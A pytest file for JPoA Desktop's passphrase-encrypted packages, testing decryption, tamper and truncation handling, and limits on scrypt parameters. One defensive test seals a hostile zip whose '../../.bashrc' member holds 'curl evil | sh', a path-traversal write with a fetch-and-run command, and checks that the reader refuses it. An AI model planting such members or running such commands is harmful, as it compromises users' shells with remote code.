"""Packages under a passphrase: AES-256-GCM over the whole zip, the key from scrypt."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest
from tests.io.package_samples import sample_contents

from jpoa_desktop.errors import ValidationError
from jpoa_desktop.io.packages.envelope import seal
from jpoa_desktop.io.packages.reading import read_package
from jpoa_desktop.io.packages.writing import write_package

PASSPHRASE = "Жетісу 2026 тренинг".encode()


def _sealed(tmp_path: Path) -> Path:
    path = tmp_path / "secret.jpoa"
    write_package(path, sample_contents(3), passphrase=PASSPHRASE)
    return path


def test_the_right_passphrase_opens_what_was_sealed(tmp_path: Path) -> None:
    path = _sealed(tmp_path)
    assert read_package(path, passphrase=PASSPHRASE) == sample_contents(3)


def test_nothing_of_the_records_shows_in_the_sealed_file(tmp_path: Path) -> None:
    data = _sealed(tmp_path).read_bytes()
    assert data.startswith(b"JPOA-ENC\x01")
    assert b"manifest" not in data and b"person" not in data
    assert "Нурланова".encode() not in data


def test_a_wrong_passphrase_is_one_line(tmp_path: Path) -> None:
    path = _sealed(tmp_path)
    with pytest.raises(ValidationError, match=r"^The passphrase does not open this package") as e:
        read_package(path, passphrase=b"wrong")
    assert "secret.jpoa" in str(e.value) and "\n" not in str(e.value)


def test_an_encrypted_package_read_without_a_passphrase_asks_for_one(tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match=r"secret\.jpoa is encrypted: give the passphrase"):
        read_package(_sealed(tmp_path))


def test_a_changed_byte_in_the_header_fails_like_a_wrong_passphrase(tmp_path: Path) -> None:
    path = _sealed(tmp_path)
    data = bytearray(path.read_bytes())
    data[20] ^= 0xFF  # inside the salt
    path.write_bytes(bytes(data))
    with pytest.raises(ValidationError, match="The passphrase does not open this package"):
        read_package(path, passphrase=PASSPHRASE)


@pytest.mark.parametrize(
    ("log2_n", "r", "p"), [(30, 8, 1), (15, 255, 1), (15, 8, 64)], ids=["n", "r", "p"]
)
def test_scrypt_parameters_larger_than_ours_are_refused_before_deriving(
    tmp_path: Path, log2_n: int, r: int, p: int
) -> None:
    path = _sealed(tmp_path)
    data = bytearray(path.read_bytes())
    struct.pack_into(">BBB", data, 9, log2_n, r, p)
    path.write_bytes(bytes(data))
    with pytest.raises(ValidationError, match="asks for a key JPoA never makes"):
        read_package(path, passphrase=PASSPHRASE)


def test_an_envelope_from_a_newer_app_asks_for_an_update(tmp_path: Path) -> None:
    path = _sealed(tmp_path)
    data = bytearray(path.read_bytes())
    data[8] = 2
    path.write_bytes(bytes(data))
    with pytest.raises(ValidationError, match="encrypted by a newer JPoA Desktop; update"):
        read_package(path, passphrase=PASSPHRASE)


def test_a_truncated_encrypted_package_is_refused(tmp_path: Path) -> None:
    path = _sealed(tmp_path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    with pytest.raises(ValidationError, match="The passphrase does not open this package"):
        read_package(path, passphrase=PASSPHRASE)
    path.write_bytes(data[:30])
    with pytest.raises(ValidationError, match=r"secret\.jpoa is an encrypted package .* cut short"):
        read_package(path, passphrase=PASSPHRASE)


def test_what_the_passphrase_opens_is_checked_like_any_package(tmp_path: Path) -> None:
    """A stranger who knows the passphrase can still seal a hostile zip: it is refused."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("manifest.json", b"{}")
        archive.writestr("../../.bashrc", b"curl evil | sh")
    path = tmp_path / "gift.jpoa"
    path.write_bytes(seal(buffer.getvalue(), PASSPHRASE))
    with pytest.raises(ValidationError, match=r"^gift\.jpoa is refused: member \.\./\.\./\.bashrc"):
        read_package(path, passphrase=PASSPHRASE)
    assert [p.name for p in tmp_path.iterdir()] == ["gift.jpoa"]


def test_an_empty_passphrase_writes_an_open_package(tmp_path: Path) -> None:
    path = tmp_path / "open.jpoa"
    write_package(path, sample_contents(), passphrase=b"")
    assert zipfile.is_zipfile(path)
